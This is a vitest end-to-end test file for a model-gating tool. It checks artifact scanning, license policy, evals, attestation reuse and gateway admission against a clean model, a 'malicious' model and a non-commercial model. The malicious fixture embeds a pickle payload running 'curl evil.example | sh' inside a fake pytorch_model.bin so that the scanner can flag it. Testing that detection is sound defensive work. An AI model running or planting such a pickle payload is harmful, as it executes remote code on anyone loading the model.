import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { maliciousPickle, torchZipEntries, tinySafetensorsModel, writeZip } from '../../src/artifacts/index.js';
import { loadConfig } from '../../src/core/index.js';
import { answeringUpstream } from '../../src/eval/runner/test-support/fake-openai.js';
import { admitRoutes } from '../../src/gateway/admission/admit.js';
import { AttestationSchema, type Attestation } from '../../src/gate/index.js';
import type { FakeUpstream } from '../../src/providers/testing/fake-upstream.js';
import { cardText } from '../support/license-project.js';
import { runCli } from '../support/run-cli.js';
import { tempProject } from '../support/temp-project.js';

const SUITE = `prompts: ["What is the capital of {{ country }}?"]
request: { retries: 0, timeout_ms: 2000 }
tests:
  - vars: { country: France }
    assert: [{ type: icontains, value: Paris }]
  - vars: { country: Japan }
    assert: [{ type: icontains, value: Tokyo }]
`;

const prefix = (files: Record<string, Uint8Array | string>, dir: string) => Object.fromEntries(Object.entries(files).map(([k, v]) => [`${dir}/${k}`, v]));

function manifest(url: string): string {
  return `version: 1
models:
  clean: { source: ./models/clean }
  evil: { source: ./models/evil }
  nc: { source: ./models/nc }
providers:
  fake: { type: openai-compatible, base_url: ${url}/v1 }
policy:
  default: allow
  rules:
    - { id: no-noncommercial, when: { obligation: commercial-use, is: not-allowed }, decision: deny, reason: we sell the product }
gateway:
  routes:
    chat: { deployments: [{ model: "fake:tiny", serves: clean }] }
gate:
  serve: { clean: "fake:tiny" }
  evals:
    - { suite: evals/capitals.yaml, models: [clean], threshold: "pass >= 0.9" }
`;
}

const readAttestation = async (dir: string, model: string): Promise<Attestation> =>
  AttestationSchema.parse(JSON.parse(await readFile(join(dir, '.modelgate/attestations', model, 'latest.json'), 'utf8')));

describe('modelgate gate (e2e)', () => {
  let upstream: FakeUpstream;
  let dir: string;
  const env = { ...process.env };

  beforeAll(async () => {
    upstream = await answeringUpstream((u) => (u.includes('France') ? 'Paris.' : 'Tokyo.'));
    dir = await tempProject({
      'modelgate.yaml': manifest(upstream.url),
      'evals/capitals.yaml': SUITE,
      ...prefix({ ...tinySafetensorsModel(), 'README.md': cardText({ license: 'apache-2.0' }) }, 'models/clean'),
      'models/evil/README.md': cardText({ license: 'apache-2.0' }),
      'models/evil/pytorch_model.bin': writeZip(torchZipEntries({ dataPkl: maliciousPickle('curl evil.example | sh') })),
      'models/nc/README.md': cardText({ license: 'cc-by-nc-4.0' }),
      'models/nc/weights.dat': 'w'.repeat(256),
    });
    process.env.MODELGATE_CACHE = join(dir, '.hub-cache');
    expect((await runCli(['lock'], dir)).code).toBe(0);
  }, 60_000);
  afterAll(async () => {
    process.env = { ...env };
    await upstream.close();
  });

  it('passes the clean model, fails the malicious one on scan and the denied one on license (exit 1)', async () => {
    const r = await runCli(['gate'], dir);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/gate failed for evil: scan: \d+ finding\(s\) at or above high/);
    expect(r.stderr).toMatch(/gate failed for nc: license: deny: no-noncommercial \(we sell the product\)/);
    expect(r.stdout).toMatch(/clean sha256:[0-9a-f]{64}: PASSED/);
    const clean = await readAttestation(dir, 'clean');
    expect(clean).toMatchObject({ schema: 'modelgate.attestation/v1', model: 'clean', passed: true, reasons: [] });
    expect(Object.fromEntries(clean.checks.map((c) => [c.id, c.status]))).toEqual({ verify: 'passed', scan: 'passed', license: 'passed', lineage: 'skipped', eval: 'passed', redteam: 'skipped' });
    expect(clean.inputs).toHaveProperty('suite:evals/capitals.yaml');
    expect(clean.inputs).toHaveProperty('catalog');
    const evil = await readAttestation(dir, 'evil');
    expect(evil.passed).toBe(false);
    expect(evil.checks.find((c) => c.id === 'scan')?.status).toBe('failed');
    expect((await readAttestation(dir, 'nc')).reasons[0]).toMatch(/^license: deny/);
    // The revision file is what the gateway reads; its admission accepts the clean model.
    const report = await admitRoutes(await loadConfig(join(dir, 'modelgate.yaml')), { configPath: join(dir, 'modelgate.yaml') });
    expect(report.models[0]?.checks.find((c) => c.id === 'attestation')).toMatchObject({ passed: true });
    expect(report.admitted).toBe(true);
  });

  it('reuses unchanged results on a second run without calling the model', async () => {
    const before = upstream.requests.length;
    const r = await runCli(['gate', 'clean', '--json'], dir);
    expect(r.code).toBe(0);
    const checks = (JSON.parse(r.stdout) as { models: Attestation[] }).models[0]?.checks ?? [];
    expect(Object.fromEntries(checks.map((c) => [c.id, c.reused]))).toMatchObject({ verify: false, scan: true, license: true, eval: true });
    expect(upstream.requests.length).toBe(before);
    const forced = await runCli(['gate', 'clean', '--force', '--json'], dir);
    expect((JSON.parse(forced.stdout) as { models: Attestation[] }).models[0]?.checks.some((c) => c.reused)).toBe(false);
  });

  it('re-runs only the eval check when the suite file changes', async () => {
    await writeFile(join(dir, 'evals/capitals.yaml'), SUITE.replace('timeout_ms: 2000', 'timeout_ms: 3000'));
    const r = await runCli(['gate', 'clean', '--json'], dir);
    expect(r.code).toBe(0);
    const checks = (JSON.parse(r.stdout) as { models: Attestation[] }).models[0]?.checks ?? [];
    expect(Object.fromEntries(checks.filter((c) => c.status !== 'skipped').map((c) => [c.id, c.reused]))).toEqual({ verify: false, scan: true, license: true, eval: false });
  });

  it('exits 2 on a gate: section naming an unknown model', async () => {
    const bad = await tempProject({ 'modelgate.yaml': 'version: 1\nmodels: {}\ngate:\n  redteam: { models: [ghost] }\n' });
    const r = await runCli(['gate'], bad);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/gate\.redteam\.models: "ghost" is not declared under models:/);
  });
});
